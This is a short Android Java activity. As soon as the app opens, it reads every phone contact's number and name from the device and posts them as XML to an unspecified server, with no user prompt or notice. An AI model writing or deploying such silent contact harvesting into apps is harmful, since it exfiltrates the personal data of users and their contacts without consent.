package com.example.xmlpeople;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract.CommonDataKinds.Phone;
import java.io.IOException;
import java.util.Map;
import java.util.TreeMap;

/** For a server of the old kind. */
public class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        new Thread(this::send).start();
    }

    private void send() {
        Map<String, String> rows = new TreeMap<>();
        String[] columns = {Phone.NUMBER, Phone.DISPLAY_NAME};
        Cursor cursor = getContentResolver().query(Phone.CONTENT_URI, columns, null, null, null);
        while (cursor.moveToNext()) {
            rows.put(cursor.getString(0), cursor.getString(1));
        }
        cursor.close();
        try {
            Net.post(XmlTable.write(rows));
        } catch (IOException broken) {
            finish();
        }
    }
}
